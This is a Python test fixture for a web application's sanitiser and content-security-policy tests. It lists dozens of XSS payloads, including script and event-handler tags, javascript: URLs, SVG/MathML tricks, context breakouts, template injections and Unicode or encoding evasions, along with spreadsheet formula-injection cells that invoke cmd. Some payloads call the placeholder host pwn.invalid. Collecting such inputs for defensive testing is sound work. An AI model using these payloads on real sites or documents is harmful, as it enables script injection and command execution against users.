"""Words that would run, leave or rewrite a page, if a page took them for anything but words.

All of our own making, one for each way out of a text that we know. Each bears `MARK`: as a global
it would set, as an attribute, or in an address. `watching.py` looks for what came alive.
"""

from __future__ import annotations

import os
from typing import Final

import pytest

MARK: Final = "PWN"
_SET: Final = f"window.{MARK}=1"

_TAGS: Final = (
    f"<script>{_SET}</script>",
    f"<SCRIPT/x>{_SET}</SCRIPT >",
    f"<scr<script>ipt>{_SET}</scr</script>ipt>",
    f"<script src=//pwn.invalid/{MARK}.js></script>",
    f"<script type=module>{_SET}</script>",
    f"<img src=x onerror={_SET}>",
    f'<img src=x onerror="{_SET}" alt="写真',
    f"<img/src='x'/onerror='{_SET}'/>",
    f"<IMG SRC=//pwn.invalid/{MARK}.png>",
    f"<video><source onerror={_SET}></video>",
    f"<audio src=x onerror={_SET}>",
    f"<body onload={_SET}>",
    f"<input autofocus onfocus={_SET}>",
    f"<details open ontoggle={_SET}>道路</details>",
    f"<marquee onstart={_SET}>穴</marquee>",
    f"<b {MARK} onclick={_SET}>太字</b>",
    f"<a href=javascript:{_SET}>ここ</a>",
    f"<a href='&#106;avascript:{_SET}'>ここ</a>",
    f"<a href=data:text/html,<script>{_SET}</script>>x</a>",
    f"<button formaction=javascript:{_SET}>送る</button>",
    f"<form action=//pwn.invalid/{MARK}><button>送る</button>",
    f"<iframe srcdoc='<script>parent.{MARK}=1</script>'></iframe>",
    f"<iframe src=javascript:parent.{MARK}=1></iframe>",
    f"<object data=data:text/html,{MARK}></object>",
    f"<embed src=//pwn.invalid/{MARK}>",
    f"<base href=//pwn.invalid/{MARK}/>",
    f"<meta http-equiv=refresh content='0;url=//pwn.invalid/{MARK}'>",
    f"<link rel=stylesheet href=//pwn.invalid/{MARK}.css>",
    f"<style>*{{background:url(//pwn.invalid/{MARK})}}</style>",
    f"<p style=background:url(//pwn.invalid/{MARK})>x",
    f"<template {MARK}><i></template><svg onload={_SET}>",
    f"<slot {MARK}><dialog open {MARK}>通報",
)
_FOREIGN: Final = (
    f"<svg onload={_SET}>",
    f"<svg><script>{_SET}</script></svg>",
    f"<svg><a xlink:href=javascript:{_SET}><text y=9>x</text></a></svg>",
    f"<svg><animate onbegin={_SET} attributeName=x dur=1s>",
    f"<svg><foreignObject><img src=x onerror={_SET}></foreignObject></svg>",
    f"<svg><use href=data:image/svg+xml,{MARK}#x></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_SET}></style>",
    f"<math href=javascript:{_SET}>x</math>",
    f"<svg><style><img src=x onerror={_SET}></style>",
)
_BREAKOUTS: Final = (
    f"</textarea><img src=x onerror={_SET}>",
    f"</title><svg onload={_SET}>",
    f"</option></select><img src=x onerror={_SET}>",
    f"</script><script>{_SET}</script>",
    f"</style><img src=x onerror={_SET}>",
    f"</template><img src=x onerror={_SET}>",
    f"</text></svg><img src=x onerror={_SET}>",
    f"</noscript><img src=x onerror={_SET}>",
    f"--><img src=x onerror={_SET}><!--",
    f"--!><svg onload={_SET}>",
    f"]]><svg onload={_SET}>",
    f"<!--{MARK}",
    f"<![CDATA[{MARK}]]>",
    f'"><img src=x onerror={_SET}>',
    f"'><img src=x onerror={_SET}>",
    f'" autofocus onfocus="{_SET}',
    f"' autofocus onfocus='{_SET}",
    f"` onmouseover={_SET} x=`",
    f"x onmouseover={_SET} {MARK}",
    f'"}}];{_SET};//',
    f"');{_SET};('",
    f'\\");{_SET};//',
    f'{{"lat":"{MARK}","__proto__":{{"{MARK}":1}}}}',
)
_CODE: Final = (
    f"${{{_SET}}}",
    f"`${{{_SET}}}`",
    "{{ PWN }}{{ 7*191 }}",
    "{{ config }}{{ self.__init__ }}PWN",
    "{% raw %}{% include 'PWN' %}{# PWN",
    "{PWN}%(PWN)s%s%n{0}",
    f"javascript:{_SET}//",
    f"JaVaScRiPt:{_SET}",
    f"java\tscript:{_SET}",
    f"data:text/html,<script>{_SET}</script>",
    f"url(javascript:{_SET})",
    f"}}*{{x:expression({_SET})}}/*",
)
_UNICODE: Final = (
    f"＜script＞{_SET}＜/script＞",
    f"＜img src=x onerror=＂{_SET}＂＞",
    f"﹤svg onload={_SET}﹥",
    f"\u2039script\u203a{_SET}",
    f"\u202e>{_SET}=daolno gvs<\u202c",
    f"\u2028{_SET}\u2029//{MARK}",
    f"<\u200bscript>{_SET}</\ufeffscript>",
    f"\u212aelvin<\u017fcript>{_SET}</\u017fcript>",
    f"+ADw-script+AD4-{_SET}+ADw-/script+AD4-",
    f"&lt;script&gt;{_SET}&lt;/script&gt;",
    f"&#60;img src=x onerror={_SET}&#62;",
    f"&amp;lt;svg onload={_SET}&amp;gt;",
    f"%3Cscript%3E{_SET}%3C/script%3E",
    rf"\u003cscript\u003e{_SET}\x3c/script\x3e",
)
_NAMES: Final = (
    f"<i id={MARK} name={MARK}>",
    f"<form id={MARK}><input name=nodeName>",
    f"<img name=body {MARK}>",
    f"<a id=documentElement {MARK}>",
)
_CELLS: Final = (
    f'=HYPERLINK("//pwn.invalid/{MARK}","x")',
    f"=cmd|' /C {MARK}'!A0",
    f"@SUM(1+9)*cmd|'{MARK}'!A0",
    f"+1+cmd|'{MARK}'!A0",
    f"-2+3+cmd|'{MARK}'!A0",
    f"\t=1+1;{MARK}",
    f"＝1+1+{MARK}",
    f'x","=1+1","{MARK}',
    f"x\n=1+1,{MARK}",
)

# For texts that hold only a name.
SHORT: Final = (
    f"<svg onload={MARK}=1>",
    f"<a {MARK} href=//x>",
    "${PWN=1}`{{7*7}}`",
    f'"><i {MARK}>',
    f"</script><i {MARK}>",
    f"=1+{MARK}",
)
LONG: Final = os.environ.get("HOSTILE_WORDS") == "all"  # `make chaos`
_WITH, _WITHOUT = pytest.param(True, id="policy"), pytest.param(False, id="no_policy")
WALLS: Final = pytest.mark.parametrize("policy", [_WITH, _WITHOUT])
# Without the policy more could run: the short form shows the desk's pages without it alone.
DESK_WALLS: Final = WALLS if LONG else pytest.mark.parametrize("policy", [_WITHOUT])
# One in so many, by whether the policy holds: with it nothing may even be tried, and that is
# nowhere tried is what the others show. Odd, as every fourth report went one way.
STEPS: Final = {True: 5, False: 1} if LONG else {True: 15, False: 9}
# Where they are shown. In the short form each place has other ones, and none is left out.
PLACES: Final = (
    *("own reports", "others' reports", "refused", "without a script"),
    *("case", "faster", "merge", "caller", "inbox", "searches", "many", "paper"),
    *("sentences", "kinds"),
)

PAYLOADS: Final = (*_TAGS, *_FOREIGN, *_BREAKOUTS, *_CODE, *_UNICODE, *_NAMES, *_CELLS)


def share(place: str, *, policy: bool) -> range:
    """The turns of the payloads, and of the reports that hold them, that this place shows."""
    step = STEPS[policy]
    return range(PLACES.index(place) % step, len(PAYLOADS), step)


def fitting(most: int, at: int = 0) -> str:
    """The payload at that turn of those no longer than `most` letters."""
    found = [one for one in (*PAYLOADS, *SHORT) if len(one) <= most]
    return found[at % len(found)]
